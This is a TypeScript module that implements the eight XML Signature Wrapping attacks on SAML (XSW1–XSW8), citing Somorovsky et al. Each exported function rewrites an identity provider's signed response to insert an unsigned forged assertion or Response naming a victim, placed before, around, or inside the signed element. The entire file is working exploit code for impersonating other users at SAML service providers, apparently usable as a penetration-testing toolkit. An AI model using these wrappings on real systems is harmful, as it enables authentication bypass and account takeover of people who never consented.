// The eight XML Signature Wrapping attacks of Somorovsky et al., "On Breaking SAML: Be Whoever
// You Want to Be" (USENIX Security 2012), as edits of a response the IdP signed for the attacker:
// each adds an unsigned assertion (or Response) naming the victim beside, around or inside the
// signed one, hoping the SP verifies one element and reads another.

const ASSERTION = /<saml:Assertion[\s>][\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;

export type Wrapping = (xml: string) => string;

function parts(xml: string, attacker: string, victim: string) {
  const signed = ASSERTION.exec(xml)![0];
  const signature = SIGNATURE.exec(signed)![0];
  const unsigned = signed.replace(signature, '');
  const forged = (assertion: string) => assertion.replace(/ ID="[^"]+"/, ' ID="_forged"').replace(`>${attacker}<`, `>${victim}<`);
  return { signed, signature, unsigned, forgedUnsigned: forged(unsigned), forgedSigned: forged(signed) };
}

/** The attacks on a response whose Response element is signed (XSW1, XSW2). */
export function responseWrappings(attacker: string, victim: string): Record<string, Wrapping> {
  const forgedResponse = (xml: string) => xml.replace(/^(<samlp:Response[^>]*?) ID="[^"]+"/, '$1 ID="_forged"').replace(`>${attacker}<`, `>${victim}<`);
  return {
    // The original Response, unsigned, inside the signature of a forged Response.
    XSW1: (xml) => {
      const signature = SIGNATURE.exec(xml)![0];
      const original = xml.replace(signature, '');
      return forgedResponse(xml).replace(signature, signature.replace('</ds:Signature>', `<ds:Object>${original}</ds:Object></ds:Signature>`));
    },
    // The original Response, unsigned, beside the signature of a forged Response (detached).
    XSW2: (xml) => {
      const signature = SIGNATURE.exec(xml)![0];
      const original = xml.replace(signature, '');
      return forgedResponse(xml).replace(signature, `${original}${signature}`);
    },
  };
}

/** The attacks on a response whose Assertion is signed (XSW3–XSW8). */
export function assertionWrappings(attacker: string, victim: string): Record<string, Wrapping> {
  return {
    // A forged assertion before the signed one.
    XSW3: (xml) => {
      const { signed, forgedUnsigned } = parts(xml, attacker, victim);
      return xml.replace(signed, `${forgedUnsigned}${signed}`);
    },
    // A forged assertion wrapping the signed one.
    XSW4: (xml) => {
      const { signed, forgedUnsigned } = parts(xml, attacker, victim);
      return xml.replace(signed, forgedUnsigned.replace(/<\/saml:Assertion>$/, `${signed}</saml:Assertion>`));
    },
    // The forged assertion carries the signature; the original, unsigned, at the end of the Response.
    XSW5: (xml) => {
      const { signed, unsigned, forgedSigned } = parts(xml, attacker, victim);
      return xml.replace(signed, forgedSigned).replace('</samlp:Response>', `${unsigned}</samlp:Response>`);
    },
    // The forged assertion carries the signature, the original inside it.
    XSW6: (xml) => {
      const { signed, unsigned, forgedSigned } = parts(xml, attacker, victim);
      return xml.replace(signed, forgedSigned.replace('</ds:Signature>', `${unsigned}</ds:Signature>`));
    },
    // The signed assertion hidden in Extensions, a forged one after it.
    XSW7: (xml) => {
      const { signed, forgedUnsigned } = parts(xml, attacker, victim);
      return xml.replace(signed, `<samlp:Extensions>${signed}</samlp:Extensions>${forgedUnsigned}`);
    },
    // The forged assertion carries the signature, the original in an Object of it.
    XSW8: (xml) => {
      const { signed, unsigned, forgedSigned } = parts(xml, attacker, victim);
      return xml.replace(signed, forgedSigned.replace('</ds:Signature>', `<ds:Object>${unsigned}</ds:Object></ds:Signature>`));
    },
  };
}
